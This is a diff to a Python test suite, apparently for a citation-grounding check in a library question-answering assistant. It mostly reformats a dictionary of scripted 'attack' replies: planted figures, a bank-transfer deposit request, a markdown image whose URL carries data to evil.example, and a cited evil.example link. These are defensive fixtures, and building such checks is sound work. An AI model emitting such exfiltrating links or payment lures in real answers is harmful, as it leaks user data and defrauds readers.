@@ -64,23 +64,44 @@ def _cite(prompt: str, needle: str) -> int:
 # Each attack: (what must not come out grounded, the scripted reply built from the prompt).
 ATTACKS = {
     "planted figure from another row of the cited passage": (
-        "156.2万次", lambda p: f"青川区图书馆2024年进馆人数为156.2万次[{_cite(p, VISITS)}]。"),
+        "156.2万次",
+        lambda p: f"青川区图书馆2024年进馆人数为156.2万次[{_cite(p, VISITS)}]。",
+    ),
     "planted figure from another year's passage": (
-        "196.47万次", lambda p: f"青川区图书馆2024年进馆人数为196.47万次[{_cite(p, '196.47万次')}]。"),
+        "196.47万次",
+        lambda p: f"青川区图书馆2024年进馆人数为196.47万次[{_cite(p, '196.47万次')}]。",
+    ),
     "telephone number with a transfer request": (
-        "转账", lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}][{_cite(p, HOTLINE)}]。"
-                        f"办证请拨打{HOTLINE}，并通过转账缴纳押金[{_cite(p, HOTLINE)}]。"),
+        "转账",
+        lambda p: (
+            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}][{_cite(p, HOTLINE)}]。"
+            f"办证请拨打{HOTLINE}，并通过转账缴纳押金[{_cite(p, HOTLINE)}]。"
+        ),
+    ),
     "image whose address carries data out": (
-        "evil", lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
-                         "![](http://evil.example/x?q=青川区208.37万次)"),
+        "evil",
+        lambda p: (
+            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。![](http://evil.example/x?q=青川区208.37万次)"
+        ),
+    ),
     "web address cited to a passage without it": (
-        "evil", lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
-                         f"详见evil.example/report?id=6.05[{_cite(p, VISITS)}]。"),
+        "evil",
+        lambda p: (
+            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
+            f"详见evil.example/report?id=6.05[{_cite(p, VISITS)}]。"
+        ),
+    ),
     "claim pinned on an unrelated passage": (
-        "闭馆整修", lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
-                          f"该馆2024年全年闭馆整修三个月，暂停外借服务[{_cite(p, '读书驿站')}]。"),
+        "闭馆整修",
+        lambda p: (
+            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
+            f"该馆2024年全年闭馆整修三个月，暂停外借服务[{_cite(p, '读书驿站')}]。"
+        ),
+    ),
     "claim without any citation": (
-        "闭馆整修", lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。该馆全年闭馆整修三个月。"),
+        "闭馆整修",
+        lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。该馆全年闭馆整修三个月。",
+    ),
 }
 VISITS = "208.37万次"
 
@@ -109,8 +130,10 @@ def test_a_correct_answer_over_several_passages_still_comes_out_grounded(kb, sta
     def responder(messages):
         prompt = messages[-1]["content"]
         visits, problems, guide = (_passage_with(prompt, s) for s in (VISITS, "馆舍面积不足", HOTLINE))
-        return (f"青川区图书馆2024年全区总分馆进馆人数为２０８．３７ 万次[{visits}]，同比增长6.05 %[{visits}]。"
-                f"该馆面临馆舍面积不足、阅览座位紧张的问题[{problems}]。读者服务热线为{HOTLINE}[{guide}]。")
+        return (
+            f"青川区图书馆2024年全区总分馆进馆人数为２０８．３７ 万次[{visits}]，同比增长6.05 %[{visits}]。"
+            f"该馆面临馆舍面积不足、阅览座位紧张的问题[{problems}]。读者服务热线为{HOTLINE}[{guide}]。"
+        )
 
     standin.chat_responder = responder
     answer = _assistant(kb, standin).ask(QUESTION)
@@ -122,7 +145,9 @@ def test_a_correct_answer_over_several_passages_still_comes_out_grounded(kb, sta
 
 # -- the claim check on its own --------------------------------------------------------------------
 
-PASSAGE = Source("全年全区总分馆进馆人数208.37万次，同比增长6.05%。全年外借图书156.2万册次。", "a-2024.txt", "2024年工作总结")
+PASSAGE = Source(
+    "全年全区总分馆进馆人数208.37万次，同比增长6.05%。全年外借图书156.2万册次。", "a-2024.txt", "2024年工作总结"
+)
 
 
 def test_figures_match_by_value_and_unit_whatever_the_writing():
